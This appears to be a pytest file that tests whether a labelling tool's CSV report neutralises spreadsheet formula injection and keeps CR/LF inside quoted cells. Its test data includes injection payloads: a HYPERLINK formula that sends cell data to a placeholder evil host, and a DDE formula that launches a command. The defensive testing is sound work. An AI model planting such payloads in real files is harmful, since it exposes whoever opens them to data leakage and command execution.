"""Reports are safe to open: a CSV a spreadsheet opens runs no formula and keeps one record per
issue, an HTML page stays small and fast whatever a label holds, and ``--images`` admits only
the origins it names. The rows come from real batch runs of the native core on crafted labels."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from kili_rules import RuleSet
from kili_rules.report import COLUMNS, Report

# Formula starts (OWASP's list), with what a spreadsheet would do with them, and cells that
# break a naive CSV: CR, LF, CRLF, quotes and commas inside a value.
INJECTIONS = (
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "a\rb=1",
    "a\nb",
    "a\r\nb",
    'a "quoted", value',
    "plain",
)
FORMULA = ("=", "+", "-", "@", "\t", "\r")
# Every column whose text can come from an annotator's label or export (rule and kind come from
# the rules file, and are neutralised the same way).
USER_TEXT = (
    "asset_id",
    "external_id",
    "label_id",
    "job",
    "category",
    "mid",
    "text",
    "source",
    "author",
    "label_type",
    "created_at",
    "asset_status",
)


def box(job: str, category: str, mid: str) -> dict[str, Any]:
    """A label with one large rectangle (81% of the image) in ``job``."""
    vertices = [{"x": 0.05, "y": 0.95}, {"x": 0.05, "y": 0.05}, {"x": 0.95, "y": 0.05}]
    vertices.append({"x": 0.95, "y": 0.95})
    annotation = {
        "boundingPoly": [{"normalizedVertices": vertices}],
        "categories": [{"name": category}],
        "children": {},
        "mid": mid,
        "type": "rectangle",
    }
    return {job: {"annotations": [annotation]}}


def rules_for(payload: str) -> RuleSet:
    return RuleSet.from_dict(
        {
            "rule": [
                # The message starts with label data, so the payload leads the text cell.
                {
                    "id": "big",
                    "kind": "area",
                    "job": payload,
                    "max": 0.1,
                    "message": "{category} is too large",
                }
            ]
        }
    )


def file_name(payload: str) -> str:
    return payload.replace("/", "_").replace("\r", "_").replace("\n", "_") + ".json"


def crafted_export(tmp: Path, payload: str) -> Path:
    """A Kili export whose every text field (and the label file's name) is ``payload``."""
    record = {
        "id": payload,
        "externalId": payload,
        "status": payload,
        "content": "",
        "latestLabel": {
            "id": payload,
            "author": {"email": payload},
            "labelType": payload,
            "createdAt": payload,
            "jsonResponse": box(payload, payload, payload),
        },
    }
    path = tmp / "export.zip"
    name = file_name(payload)
    with zipfile.ZipFile(path, "w") as archive:
        # At the top of the zip, so that the source cell starts with the payload too.
        archive.writestr(name, json.dumps(record))
    return path


def expected(value: str) -> str:
    return "'" + value if value.startswith(FORMULA) else value


@pytest.mark.parametrize("payload", INJECTIONS, ids=[repr(p) for p in INJECTIONS])
def test_csv_neutralises_formulas_in_every_text_column(payload: str, tmp_path: Path) -> None:
    report = rules_for(payload).validate_export(crafted_export(tmp_path, payload), progress=False)
    assert len(report) == 1
    row = report[0]
    carried = [c for c in USER_TEXT if payload in (getattr(row, c, None) or "")]
    # The payload reached the row in all these columns (source holds it in the file's name).
    assert set(carried) >= set(USER_TEXT) - {"source"}, carried
    text = report.to_csv()
    # Read back as a spreadsheet importer does: one header and exactly one record.
    records = list(csv.reader(io.StringIO(text, newline="")))
    assert len(records) == 2, records
    assert records[0] == list(COLUMNS)
    cells = dict(zip(COLUMNS, records[1], strict=True))
    for column in COLUMNS:
        assert not cells[column].startswith(FORMULA), (column, cells[column])
    for column in set(carried) - {"text", "source"}:
        assert cells[column] == expected(payload), column
    assert cells["text"] == expected(f"{payload} is too large")
    assert cells["source"] == expected(file_name(payload))
    # Numbers stay numbers (a negative measure would keep its sign: they are not text).
    assert float(cells["value"]) == pytest.approx(0.81) and cells["limit"] == "0.1"


def test_csv_quotes_every_cr_and_lf_and_ends_records_with_crlf(tmp_path: Path) -> None:
    report = rules_for("a\rb").validate_export(crafted_export(tmp_path, "a\rb"), progress=False)
    text = report.to_csv()
    # The raw file: every CR or LF that is not a record end sits inside a quoted cell.
    body = text.split("\r\n")
    assert body[-1] == "" and len(body) == 3  # header, one record, and the final CRLF
    for cell in body[1].split(","):
        if "\r" in cell or "\n" in cell:
            assert cell.startswith('"') and cell.endswith('"'), cell
    # A reader that splits on any line end (as spreadsheets do on a bare CR) still sees one
    # record: the CRs are inside quotes.
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == 2


def test_csv_of_an_empty_report_is_its_header() -> None:
    assert Report().to_csv() == ",".join(COLUMNS) + "\r\n"
